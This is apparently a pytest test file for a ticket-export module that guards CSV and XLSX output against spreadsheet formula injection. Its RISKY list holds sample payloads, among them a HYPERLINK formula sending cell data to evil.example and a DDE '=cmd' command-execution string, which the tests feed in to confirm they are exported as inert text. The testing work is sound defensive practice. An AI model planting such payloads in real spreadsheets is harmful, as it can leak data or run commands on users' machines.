"""List export: text Excel would run as a formula is written as text, and reads the same as typed."""

from __future__ import annotations

import csv
import zipfile
from datetime import UTC, datetime

import pytest

from opsdesk.domain.enums import TicketStatus
from opsdesk.domain.tickets import TicketRow
from opsdesk.services.exports import COLUMNS, csv_safe, export_rows, formula_like

HEADERS = [f"h{i}" for i in range(len(COLUMNS))]
RISKY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+86 139 0000 0000",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["大屏第3行黑屏", "UPS = 告警", "A1-20261123-001", ""]


def _row(i: int, title: str, room: str = "东机房", assignee: str = "") -> TicketRow:
    at = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
    return TicketRow(
        id=f"t{i}", code=f"A1-20261123-{i:03d}", priority="P2", title=title, room_name=room,
        category="hardware", status=TicketStatus.NEW, created_at=at, assignee_name=assignee,
        respond_due=at, respond_warn=None, respond_done=None, arrive_due=None, arrive_warn=None,
        arrive_done=None, resolve_due=None, resolve_warn=None, resolve_done=None, paused=False,
    )  # fmt: skip


@pytest.mark.parametrize("text", RISKY)
def test_formula_like_text_is_recognised(text) -> None:
    assert formula_like(text)
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_left_alone(text) -> None:
    assert not formula_like(text)
    assert csv_safe(text) == text


def test_csv_prefixes_formula_cells_with_a_quote(tmp_path) -> None:
    rows = [_row(i, t) for i, t in enumerate(RISKY + PLAIN)] + [_row(99, "ok", room="=1+1", assignee="@me")]
    export_rows(rows, tmp_path / "l.csv", "csv", HEADERS, "Asia/Shanghai")
    with (tmp_path / "l.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    titles = [r[2] for r in table[1:]]
    assert titles == ["'" + t for t in RISKY] + PLAIN + ["ok"]
    assert table[-1][3] == "'=1+1" and table[-1][13] == "'@me"  # every text column, not only the title
    assert table[1][6] == "2026-11-23 10:00"  # times untouched
    for cells in table[1:]:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_clock_states_come_in_the_callers_words_and_stay_text(tmp_path) -> None:
    rows = [_row(1, "大屏黑屏"), _row(2, "打印机卡纸")]
    words = {"t1": ("已超时", "", "=正常"), "t2": ("正常", "", "")}  # a caller's words are text too
    export_rows(rows, tmp_path / "l.csv", "csv", HEADERS, "Asia/Shanghai", clock_states=lambda r: words[r.id])
    with (tmp_path / "l.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    at = COLUMNS.index
    assert [r[at("respond_state")] for r in table[1:]] == ["已超时", "正常"]
    assert table[1][at("resolve_state")] == "'=正常"
    assert table[1][at("respond_due")] == "2026-11-23 10:00" and table[1][at("arrive_due")] == ""
    export_rows(rows, tmp_path / "l.csv", "csv", HEADERS, "Asia/Shanghai")  # no words: blank, not made up
    with (tmp_path / "l.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh))[1][at("respond_state")] == ""


def test_xlsx_writes_formula_cells_as_quoted_text(tmp_path) -> None:
    from openpyxl import load_workbook

    rows = [_row(i, t) for i, t in enumerate(RISKY + PLAIN)] + [_row(99, "ok", room="=1+1")]
    export_rows(rows, tmp_path / "l.xlsx", "xlsx", HEADERS, "Asia/Shanghai")
    with zipfile.ZipFile(tmp_path / "l.xlsx") as z:
        sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        assert "<f>" not in z.read(sheet).decode()  # no formula anywhere in the sheet
    ws = load_workbook(tmp_path / "l.xlsx").active
    cells = {c.coordinate: c for row in ws.iter_rows() for c in row}
    for i, text in enumerate(RISKY, start=2):
        cell = cells[f"C{i}"]
        # read back exactly as typed (no visible quote), stored as text, kept text by Excel on edit
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)
    for i, text in enumerate(PLAIN, start=2 + len(RISKY)):
        assert cells[f"C{i}"].value == (text or None) and not cells[f"C{i}"].quotePrefix
    last = 2 + len(RISKY) + len(PLAIN)
    assert (cells[f"D{last}"].value, cells[f"D{last}"].data_type) == ("=1+1", "s")
    assert cells["G2"].value == datetime(2026, 11, 23, 10, 0)
